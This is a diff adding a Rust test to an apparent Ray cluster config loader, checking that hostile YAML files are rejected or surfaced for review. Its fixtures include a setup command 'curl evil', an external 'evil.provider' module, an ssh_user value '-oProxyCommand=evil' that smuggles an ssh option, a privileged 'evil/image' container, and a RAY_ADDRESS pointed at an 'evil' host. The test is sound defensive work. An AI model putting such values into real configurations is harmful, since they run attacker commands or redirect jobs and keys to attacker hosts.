@@ -164,3 +164,32 @@ fn a_file_that_changed_since_its_folder_was_trusted_is_not_used() {
     write(&dir, "infra/a.yaml", cluster(3));
     assert!(file_of(config.entries[0].cluster().unwrap()).is_ok());
 }
+
+#[test]
+fn nothing_of_a_folder_hides_from_its_question() {
+    let dir = TempDir::new().unwrap();
+    let home = dir.path().join("home");
+    let read = |vars: &[(&str, &str)]| {
+        let vars = [&[("HOME", home.to_str().unwrap())], vars].concat();
+        read(&Sources::default(), &Env::new(&vars, dir.path()), Timestamp::default()).unwrap()
+    };
+    // A key that stands twice: Ray takes the file, and a reader of all of it does not.
+    let hostile = "cluster_name: a\nx: 1\nx: 2\nprovider: {type: external, module: evil.provider}\nsetup_commands: [curl evil]\n";
+    write(&dir, "infra/a.yaml", hostile);
+    let looked = read(&[]).look().unwrap();
+    assert!(matches!(&looked.entries[..], [Entry::Broken(_)]), "{:?}", looked.entries);
+    // A user that would be an option of ssh.
+    let user =
+        "cluster_name: a\nprovider: {type: local, head_ip: h}\nauth: {ssh_user: '-oProxyCommand=evil'}\n";
+    write(&dir, "infra/a.yaml", user);
+    assert!(matches!(&read(&[]).look().unwrap().entries[..], [Entry::Broken(_)]));
+    let shell = "cluster_name: a\nprovider: {type: local, head_ip: h}\ndocker: {image: evil/image, run_options: [--privileged]}\n";
+    write(&dir, "infra/a.yaml", shell);
+    let lines = read(&[]).review().unwrap().lines().join("\n");
+    assert!(lines.contains("evil/image") && lines.contains("--privileged"), "{lines}");
+    // What is set in the environment now may not be the next time; the file is accepted whole.
+    write(&dir, ".marin.yaml", "env: {RAY_ADDRESS: 'http://evil:8265', WANDB_API_KEY: x}\n");
+    let set = [("RAY_ADDRESS", "http://mine:8265")];
+    let lines = read(&set).review().unwrap().lines().join("\n");
+    assert!(lines.contains("http://evil:8265"), "{lines}");
+}
